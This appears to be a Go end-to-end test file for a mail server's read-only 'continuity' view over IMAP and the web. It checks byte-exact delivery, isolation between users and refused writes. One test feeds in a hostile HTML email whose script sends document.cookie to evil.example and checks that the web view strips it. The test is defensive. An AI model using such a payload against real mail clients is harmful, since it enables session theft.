package e2e

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/emersion/go-imap/v2"
	"github.com/emersion/go-imap/v2/imapclient"
	"golang.org/x/crypto/bcrypt"

	"github.com/mxq-dev/mxq/internal/testbackend"
	"github.com/mxq-dev/mxq/internal/testpki"
)

// contNode is mxq serve with the continuity view on: IMAP (implicit TLS)
// and the web page, users alice and bob in a passwd-file, the store at
// backend (down unless the test brings it up).
type contNode struct {
	t       *testing.T
	m       *mxqProc
	admin   string
	imap    string
	web     string
	ca      *testpki.CA
	caFile  string
	dir     string
	leaf    *testpki.Leaf
	backend string
}

var contUsers = map[string]string{"alice@example.test": "alice-pw", "bob@example.test": "bob-pw"}

func startContNode(t *testing.T, backend string) *contNode {
	t.Helper()
	dir := t.TempDir()
	ca, err := testpki.NewCA("mxq continuity e2e")
	if err != nil {
		t.Fatal(err)
	}
	leaf, err := ca.Issue("127.0.0.1")
	if err != nil {
		t.Fatal(err)
	}
	cert, key, caFile, err := leaf.Write(dir, ca)
	if err != nil {
		t.Fatal(err)
	}
	var lines []string
	for u, pw := range contUsers {
		h, _ := bcrypt.GenerateFromPassword([]byte(pw), 5)
		lines = append(lines, u+":{BLF-CRYPT}"+string(h)+"::::::")
	}
	sort.Strings(lines)
	passwd := filepath.Join(dir, "passwd")
	if err := os.WriteFile(passwd, []byte(strings.Join(lines, "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	n := &contNode{t: t, admin: freePort(t), imap: freePort(t), web: freePort(t), ca: ca, caFile: caFile, dir: dir, leaf: leaf, backend: backend}
	n.m = startMxq(t, fmt.Sprintf(`
node_name: continuity
data_dir: {{dir}}/data
smtp: {listen: "{{smtp}}", domains: [example.test]}
admin: {listen: "%s", token: "%s"}
backends:
  store:
    address: %s
    rate: 500
    start_rate: 500
    concurrency: 4
drain:
  retry_min: 200ms
  retry_max: 1s
  probe_interval: 200ms
continuity:
  enabled: true
  imap: {listen: "%s"}
  web: {listen: "%s"}
  tls: {cert_file: "%s", key_file: "%s"}
  auth: {passwd_file: "%s", default_domain: example.test}
`, n.admin, cliToken, backend, n.imap, n.web, cert, key, passwd))
	return n
}

// send queues one message and returns its queue ID.
func (n *contNode) send(msg []byte, to ...string) string {
	n.t.Helper()
	c, err := dial(n.m.smtp)
	if err != nil {
		n.t.Fatal(err)
	}
	defer c.Quit()
	id, err := sendOne(context.Background(), c, "sender@example.org", to, msg)
	if err != nil {
		n.t.Fatal(err)
	}
	return id
}

// adminGet reads an admin API path with the token.
func (n *contNode) adminGet(path string) []byte {
	n.t.Helper()
	req, _ := http.NewRequest("GET", "http://"+n.admin+path, nil)
	req.Header.Set("Authorization", "Bearer "+cliToken)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		n.t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 {
		n.t.Fatalf("GET %s: %d %s", path, resp.StatusCode, b)
	}
	return b
}

// queued is the message mxq holds for a queue ID, as the admin API
// exports it: what every view must serve byte for byte.
func (n *contNode) queued(id string) []byte { return n.adminGet("/api/v1/queue/" + id + "/raw") }

type contStatus struct {
	Enabled bool   `json:"enabled"`
	Error   string `json:"error"`
	Index   struct {
		Ready    bool `json:"ready"`
		Messages int  `json:"messages"`
	} `json:"index"`
	Sessions struct {
		IMAP int `json:"imap"`
		Web  int `json:"web"`
	} `json:"sessions"`
	UsersSeen int               `json:"users_seen"`
	Logins    map[string]uint64 `json:"logins"`
	Reads     uint64            `json:"reads"`
}

func (n *contNode) status() contStatus {
	n.t.Helper()
	var st contStatus
	if err := json.Unmarshal(n.adminGet("/api/v1/continuity"), &st); err != nil {
		n.t.Fatal(err)
	}
	return st
}

// waitIndexed waits until the view holds want messages (counted once per
// recipient).
func (n *contNode) waitIndexed(want int) {
	n.t.Helper()
	eventually(n.t, fmt.Sprintf("%d messages in the continuity index", want), func() bool {
		st := n.status()
		return st.Index.Ready && st.Index.Messages == want
	})
}

func (n *contNode) imapClient(user string, h *imapclient.UnilateralDataHandler) *imapclient.Client {
	n.t.Helper()
	c, err := imapclient.DialTLS(n.imap, &imapclient.Options{TLSConfig: &tls.Config{RootCAs: n.ca.Pool}, UnilateralDataHandler: h})
	if err != nil {
		n.t.Fatal(err)
	}
	n.t.Cleanup(func() { c.Close() })
	if err := c.Login(user, contUsers[user]).Wait(); err != nil {
		n.t.Fatalf("IMAP login %s: %v", user, err)
	}
	return c
}

// queueIDOf reads the queue ID from mxq's Received header, first in every
// message it holds.
func queueIDOf(t *testing.T, msg []byte) string {
	t.Helper()
	id, _, err := stripAdded(msg)
	if err != nil {
		t.Fatalf("%v in %q", err, msg[:min(len(msg), 200)])
	}
	return id
}

const imaplibScript = `
import imaplib, json, os, ssl, sys
host, port, ca, user, pw, outdir, other = sys.argv[1:8]
ctx = ssl.create_default_context(cafile=ca)
M = imaplib.IMAP4_SSL(host, int(port), ssl_context=ctx)
M.login(user, pw)
out = {"caps": M.capabilities and [c.decode() if isinstance(c, bytes) else c for c in M.capabilities]}
typ, data = M.select("INBOX")
out["exists"] = int(data[0])
typ, data = M.uid("SEARCH", None, "ALL")
uids = data[0].split()
out["files"] = []
for u in uids:
    typ, data = M.uid("FETCH", u, "(BODY.PEEK[])")
    p = os.path.join(outdir, "%s-%s.eml" % (user, u.decode()))
    with open(p, "wb") as f:
        f.write(data[0][1])
    out["files"].append(p)
# Guess: every UID from 1 to 100, and every sequence number.
typ, data = M.uid("FETCH", "1:100", "(UID)")
out["uid_guess"] = [d.decode() for d in data if isinstance(d, bytes)]
typ, data = M.fetch("1:100", "(UID)")
out["seq_guess"] = [d.decode() for d in data if isinstance(d, bytes)]
typ, data = M.uid("SEARCH", None, "TEXT", '"%s"' % other)
out["search_other"] = data[0].decode()
typ, data = M.uid("SEARCH", None, "SUBJECT", '"%s"' % other)
out["subject_other"] = data[0].decode()
# Writes are refused, with a reason.
refusals = {}
typ, data = M.uid("STORE", uids[0], "+FLAGS", "(\\Deleted)")
refusals["store_deleted"] = typ + " " + data[0].decode()
typ, data = M.append("INBOX", None, None, b"Subject: x\r\n\r\nx\r\n")
refusals["append"] = typ + " " + data[0].decode()
typ, data = M.uid("COPY", uids[0], "Archive")
refusals["copy"] = typ + " " + data[0].decode()
typ, data = M.create("Archive")
refusals["create"] = typ + " " + data[0].decode()
out["refusals"] = refusals
M.logout()
print(json.dumps(out))
`

type imaplibResult struct {
	Exists       int               `json:"exists"`
	Files        []string          `json:"files"`
	UIDGuess     []string          `json:"uid_guess"`
	SeqGuess     []string          `json:"seq_guess"`
	SearchOther  string            `json:"search_other"`
	SubjectOther string            `json:"subject_other"`
	Refusals     map[string]string `json:"refusals"`
}

func runImaplib(t *testing.T, n *contNode, user, other string) imaplibResult {
	t.Helper()
	dir := t.TempDir()
	script := filepath.Join(dir, "fetch.py")
	os.WriteFile(script, []byte(imaplibScript), 0o644)
	host, port, _ := net.SplitHostPort(n.imap)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	out, err := exec.CommandContext(ctx, "python3", script, host, port, n.caFile, user, contUsers[user], dir, other).Output()
	if err != nil {
		var stderr []byte
		if ee, ok := err.(*exec.ExitError); ok {
			stderr = ee.Stderr
		}
		t.Fatalf("imaplib as %s: %v\n%s%s", user, err, out, stderr)
	}
	var res imaplibResult
	if err := json.Unmarshal(out, &res); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return res
}

// TestContinuityRealIMAPClients: with the store down, Python's imaplib
// (over TLS, checking the certificate) fetches each user's held mail
// byte for byte as queued, cannot reach the other user's by listing,
// guessing UIDs or searching, and is refused every write with a reason;
// mbsync (isync) syncs the same mail into a Maildir.
func TestContinuityRealIMAPClients(t *testing.T) {
	need(t, "python3")
	n := startContNode(t, freePort(t)) // nothing listens there: the store is down
	msgs := map[string][][]byte{
		"alice@example.test": {
			[]byte("From: Carol <carol@example.org>\r\nTo: alice@example.test\r\nSubject: alice lunch\r\nDate: Mon, 02 Nov 2026 10:00:00 +0000\r\n\r\nLunch at noon?\r\n"),
			[]byte("From: Dan <dan@example.org>\r\nTo: alice@example.test\r\nSubject: =?UTF-8?Q?caf=C3=A9_=E2=98=95?=\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nUn café ☕, s'il vous plaît.\r\n"),
			[]byte("From: Eve <eve@example.org>\r\nTo: alice@example.test\r\nSubject: alice photo\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee the photo\r\n--b\r\nContent-Type: image/png\r\nContent-Disposition: attachment; filename=\"p.png\"\r\nContent-Transfer-Encoding: base64\r\n\r\niVBORw0KGgo=\r\n--b--\r\n"),
		},
		"bob@example.test": {
			[]byte("From: Carol <carol@example.org>\r\nTo: bob@example.test\r\nSubject: bob payroll\r\n\r\nbob's salary\r\n"),
			[]byte("From: Carol <carol@example.org>\r\nTo: bob@example.test\r\nSubject: bob private\r\n\r\nfor bob only\r\n"),
		},
	}
	ids := map[string][]string{}
	for _, user := range []string{"alice@example.test", "bob@example.test"} {
		for _, m := range msgs[user] {
			ids[user] = append(ids[user], n.send(m, user))
		}
	}
	n.waitIndexed(5)

	for user, other := range map[string]string{"alice@example.test": "bob", "bob@example.test": "alice"} {
		res := runImaplib(t, n, user, other)
		if res.Exists != len(ids[user]) || len(res.Files) != len(ids[user]) {
			t.Fatalf("%s: EXISTS %d, %d files; want %d", user, res.Exists, len(res.Files), len(ids[user]))
		}
		got := map[string][]byte{}
		for _, f := range res.Files {
			b, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			got[queueIDOf(t, b)] = b
		}
		for _, id := range ids[user] {
			want := n.queued(id)
			if !bytes.Equal(got[id], want) {
				t.Errorf("%s: message %s as fetched by imaplib differs from the queued one:\n%q\n%q", user, id, got[id], want)
			}
		}
		if len(res.UIDGuess) != len(ids[user]) || len(res.SeqGuess) != len(ids[user]) {
			t.Errorf("%s: guessing UIDs 1:100 gave %v, sequence numbers %v", user, res.UIDGuess, res.SeqGuess)
		}
		if res.SearchOther != "" || res.SubjectOther != "" {
			t.Errorf("%s found %s's mail by SEARCH: %q %q", user, other, res.SearchOther, res.SubjectOther)
		}
		for what, r := range res.Refusals {
			if !strings.HasPrefix(r, "NO [CANNOT]") {
				t.Errorf("%s: %s answered %q, want NO [CANNOT] with a reason", user, what, r)
			}
		}
	}
	// The same over the web page.
	checkWebIsolation(t, n, "alice@example.test", []string{"alice lunch", "alice photo"}, []string{"bob payroll", "bob private", "for bob only", "salary"}, 3)
	checkWebIsolation(t, n, "bob@example.test", []string{"bob payroll", "bob private"}, []string{"alice lunch", "alice photo", "Lunch at noon", "see the photo"}, 2)

	st := n.status()
	if st.UsersSeen != 2 || st.Logins["ok"] < 2 || st.Reads < 5 {
		t.Errorf("continuity status: %+v", st)
	}
	// The CLI shows it too.
	out, err := exec.Command(mxqBin, "--server", "http://"+n.admin, "--token", cliToken, "continuity", "status").CombinedOutput()
	if err != nil || !strings.Contains(string(out), "users seen  2") || !strings.Contains(string(out), "5 messages for 2 users") {
		t.Errorf("mxq continuity status: %v\n%s", err, out)
	}
	t.Logf("mxq continuity status:\n%s", out)

	if _, err := exec.LookPath("mbsync"); err != nil {
		need(t, "mbsync")
	}
	syncWithMbsync(t, n, "alice@example.test", ids["alice@example.test"])
}

// xTUID is the header mbsync adds to the messages it copies, to recognize
// them later.
var xTUID = regexp.MustCompile(`(?m)^X-TUID: [^\r\n]*\r\n`)

// syncWithMbsync pulls a user's held mail into a Maildir with mbsync and
// checks every message arrived whole. mbsync stores Maildir files with LF
// line ends (it converts CRLF, as every Maildir tool does) and adds its
// X-TUID header, so the bytes are compared after undoing both.
func syncWithMbsync(t *testing.T, n *contNode, user string, ids []string) {
	t.Helper()
	dir := t.TempDir()
	os.MkdirAll(filepath.Join(dir, "mail"), 0o700)
	host, port, _ := net.SplitHostPort(n.imap)
	rc := filepath.Join(dir, "mbsyncrc")
	os.WriteFile(rc, []byte(fmt.Sprintf(`IMAPAccount held
Host %s
Port %s
User %s
Pass %s
SSLType IMAPS
CertificateFile %s

IMAPStore held-remote
Account held

MaildirStore local
Path %s/mail/
Inbox %s/mail/INBOX

Channel held
Far :held-remote:
Near :local:
Patterns INBOX
Sync Pull
Create Near
Expunge None
SyncState *
`, host, port, user, contUsers[user], n.caFile, dir, dir)), 0o600)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	if out, err := exec.CommandContext(ctx, "mbsync", "-c", rc, "-a").CombinedOutput(); err != nil {
		t.Fatalf("mbsync: %v\n%s", err, out)
	}
	got := map[string][]byte{}
	for _, sub := range []string{"new", "cur"} {
		files, _ := os.ReadDir(filepath.Join(dir, "mail", "INBOX", sub))
		for _, f := range files {
			b, _ := os.ReadFile(filepath.Join(dir, "mail", "INBOX", sub, f.Name()))
			crlf := bytes.ReplaceAll(b, []byte("\n"), []byte("\r\n"))
			crlf = xTUID.ReplaceAll(crlf, nil)
			got[queueIDOf(t, crlf)] = crlf
		}
	}
	if len(got) != len(ids) {
		t.Fatalf("mbsync synced %d messages, want %d", len(got), len(ids))
	}
	for _, id := range ids {
		if !bytes.Equal(got[id], n.queued(id)) {
			t.Errorf("mbsync: message %s differs:\n%q\n%q", id, got[id], n.queued(id))
		}
	}
}

// TestContinuityHeldThenDelivered: with the store down a message is in
// the view; an IMAP client waits in IDLE; the store comes back, the drain
// delivers the message, and the client sees it leave (EXPUNGE); the store
// got exactly the bytes the view served.
func TestContinuityHeldThenDelivered(t *testing.T) {
	be, err := testbackend.Start("127.0.0.1:0", testbackend.Options{KeepData: true})
	if err != nil {
		t.Fatal(err)
	}
	defer be.Close()
	be.Down()
	n := startContNode(t, be.Addr())
	msg := []byte("From: Carol <carol@example.org>\r\nTo: alice@example.test\r\nSubject: held then delivered\r\n\r\nwaiting for the store\r\n")
	id := n.send(msg, "alice@example.test")
	n.waitIndexed(1)

	var mu sync.Mutex
	var expunged []uint32
	gone := make(chan struct{}, 1)
	c := n.imapClient("alice@example.test", &imapclient.UnilateralDataHandler{
		Expunge: func(seq uint32) {
			mu.Lock()
			expunged = append(expunged, seq)
			mu.Unlock()
			select {
			case gone <- struct{}{}:
			default:
			}
		},
	})
	sel, err := c.Select("INBOX", nil).Wait()
	if err != nil || sel.NumMessages != 1 {
		t.Fatalf("select: %v %+v", err, sel)
	}
	msgs, err := c.Fetch(imap.SeqSetNum(1), &imap.FetchOptions{UID: true, BodySection: []*imap.FetchItemBodySection{{Peek: true}}}).Collect()
	if err != nil || len(msgs) != 1 {
		t.Fatalf("fetch: %v", err)
	}
	served := msgs[0].BodySection[0].Bytes
	if !bytes.Equal(served, n.queued(id)) {
		t.Fatalf("served %q", served)
	}
	idle, err := c.Idle()
	if err != nil {
		t.Fatal(err)
	}
	if err := be.Up(); err != nil {
		t.Fatal(err)
	}
	select {
	case <-gone:
	case <-time.After(30 * time.Second):
		t.Fatal("no EXPUNGE after the store came back")
	}
	idle.Close()
	if err := idle.Wait(); err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	if len(expunged) != 1 || expunged[0] != 1 {
		t.Errorf("EXPUNGE %v", expunged)
	}
	mu.Unlock()
	if d := be.Deliveries(); len(d) != 1 || !bytes.Equal(d[0].Data, served) {
		t.Fatalf("the store got %d deliveries; first differs from what the view served", len(d))
	}
	if st, err := c.Status("INBOX", &imap.StatusOptions{NumMessages: true}).Wait(); err != nil || *st.NumMessages != 0 {
		t.Fatalf("after delivery: %v %+v", err, st)
	}
}

// TestContinuityBadInput: a malformed MIME message, a 20 MiB message and
// HTML with scripts and remote images are served safely: over IMAP byte
// for byte (the big one streamed), with a BODYSTRUCTURE even for the
// broken one; on the web page without any script or remote load, cut to
// size with a note.
func TestContinuityBadInput(t *testing.T) {
	n := startContNode(t, freePort(t)) // the store is down
	broken := []byte("From: x@example.org\r\nTo: alice@example.test\r\nSubject: broken mime\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"never-closed\"\r\n\r\n--never-closed\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n--never-closed\r\nContent-Type: multipart/alternative\r\n\r\nno boundary here\r\n")
	var big bytes.Buffer
	big.WriteString("From: x@example.org\r\nTo: alice@example.test\r\nSubject: twenty megabytes\r\n\r\n")
	line := []byte(strings.Repeat("0123456789", 7) + "\r\n")
	for big.Len() < 20<<20 {
		big.Write(line)
	}
	hostile := []byte("From: Mallory <m@evil.example>\r\nTo: alice@example.test\r\nSubject: hostile html\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" +
		"<script>document.location='http://evil.example/'+document.cookie</script><img src=\"http://evil.example/t.gif\">" +
		"<p onclick=\"x()\">Hello <b>Alice</b></p><iframe src=\"http://evil.example/\"></iframe>\r\n")
	idBroken := n.send(broken, "alice@example.test")
	idBig := n.send(big.Bytes(), "alice@example.test")
	idHostile := n.send(hostile, "alice@example.test")
	n.waitIndexed(3)

	c := n.imapClient("alice@example.test", nil)
	if _, err := c.Select("INBOX", nil).Wait(); err != nil {
		t.Fatal(err)
	}
	whole := &imap.FetchItemBodySection{Peek: true}
	msgs, err := c.Fetch(imap.UIDSetNum(1, 2, 3), &imap.FetchOptions{UID: true, BodyStructure: &imap.FetchItemBodyStructure{}, Envelope: true,
		BodySection: []*imap.FetchItemBodySection{whole}}).Collect()
	if err != nil || len(msgs) != 3 {
		t.Fatalf("fetch: %v (%d)", err, len(msgs))
	}
	for i, id := range []string{idBroken, idBig, idHostile} {
		if got := msgs[i].FindBodySection(whole); !bytes.Equal(got, n.queued(id)) {
			t.Errorf("UID %d: %d bytes served, differ from the %d queued", msgs[i].UID, len(got), len(n.queued(id)))
		}
		if msgs[i].BodyStructure == nil || msgs[i].Envelope == nil {
			t.Errorf("UID %d: no BODYSTRUCTURE or ENVELOPE", msgs[i].UID)
		}
	}

	web := n.webClient(t, "alice@example.test")
	for _, tc := range []struct {
		uid  int
		want string
	}{{1, "broken"}, {2, "too long to show whole"}, {3, "Hello <b>Alice</b>"}} {
		resp, page := web.get(fmt.Sprintf("/mail/%d", tc.uid))
		if resp.StatusCode != 200 || !strings.Contains(page, tc.want) {
			t.Errorf("web /mail/%d: %d, no %q", tc.uid, resp.StatusCode, tc.want)
		}
		lower := strings.ToLower(page)
		for _, bad := range []string{"<script", "<iframe", "<img", "onclick", "http://evil.example"} {
			if strings.Contains(lower, bad) {
				t.Errorf("web /mail/%d contains %q", tc.uid, bad)
			}
		}
		if len(page) > 2<<20 {
			t.Errorf("web /mail/%d is %d bytes", tc.uid, len(page))
		}
	}
}

// TestContinuityOffAndMisconfigured: off (the default) the admin API and
// the CLI say so; on without TLS or users, mxq refuses to start and names
// the keys.
func TestContinuityOffAndMisconfigured(t *testing.T) {
	out := startMxqFails(t, `
data_dir: {{dir}}/data
smtp: {listen: "{{smtp}}"}
admin: {listen: ""}
continuity: {enabled: true}
`)
	for _, want := range []string{"continuity.tls", "continuity.auth.passwd_file"} {
		if !strings.Contains(out, want) {
			t.Errorf("the refusal does not name %s:\n%s", want, out)
		}
	}
	adminAddr := freePort(t)
	startMxq(t, fmt.Sprintf(`
data_dir: {{dir}}/data
smtp: {listen: "{{smtp}}"}
admin: {listen: "%s", token: "%s"}
backend: lmtp://%s
`, adminAddr, cliToken, freePort(t)))
	cli, err := exec.Command(mxqBin, "--server", "http://"+adminAddr, "--token", cliToken, "continuity", "status").CombinedOutput()
	if err != nil || !strings.Contains(string(cli), "disabled") {
		t.Fatalf("mxq continuity status: %v\n%s", err, cli)
	}
}
